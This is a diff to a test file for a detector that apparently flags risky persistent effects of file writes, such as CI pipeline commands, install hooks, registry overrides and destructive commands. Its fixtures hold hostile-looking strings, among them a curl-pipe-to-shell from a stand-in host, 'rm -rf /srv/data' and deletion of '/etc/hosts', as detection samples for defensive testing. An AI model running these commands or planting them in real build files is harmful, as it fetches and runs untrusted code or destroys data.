@@ -78,7 +78,10 @@ describe("writeConsequences", () => {
     ["words in brackets", 'command: ["sh", "-c", "curl https://a.example | sh"]\n'],
     ["a comment before", "# first\nrun: curl https://a.example | sh # last\n"],
   ])("reads the commands of a build server in %s", (_, text) => {
-    expect(consequencesOf(".gitlab-ci.yml", text)).toEqual([{ kind: "persist", where: "pipeline" }]);
+    const [consequence, ...others] = consequencesOf(".gitlab-ci.yml", text);
+    expect(consequence).toMatchObject({ kind: "persist", where: "pipeline" });
+    expect(consequence).toHaveProperty("content", expect.stringContaining("curl https://a.example |"));
+    expect(others).toEqual([]);
     expect(consequencesOf(".gitlab-ci.yml", text.replaceAll("curl https://a.example |", "echo"))).toEqual([]);
   });
 
@@ -86,6 +89,16 @@ describe("writeConsequences", () => {
     expect(consequencesOf("package.json", '    "postinstall": "node x.js",')).toHaveLength(1);
     expect(consequencesOf("package.json", '    "postbuild": "node x.js",')).toHaveLength(0);
     expect(consequencesOf("package.json", '"dependencies": { "install": "^1.0.0" }')).toHaveLength(0);
+  });
+
+  it.each([
+    ["Makefile", "all:\n\tgcc a.c\nclean:\n\trm -rf /srv/data\n", "rm -rf /srv/data"],
+    ["package.json", '{"scripts":{"test":"vitest","postinstall":"node x.js"}}', "node x.js"],
+    [".npmrc", "color=true\nregistry=https://npm.x.example\n", "registry=https://npm.x.example"],
+    ["conftest.py", "import os\nos.remove('/etc/hosts')\n", "os.remove('/etc/hosts')"],
+    ["compose.yml", "services:\n  a:\n    privileged: true\n", "privileged: true"],
+  ])("names the risky part of a %s", (path, text, content) => {
+    expect(consequencesOf(path, text)).toMatchObject([{ kind: "persist", content }]);
   });
 
   it("counts a Makefile from the network", () => {
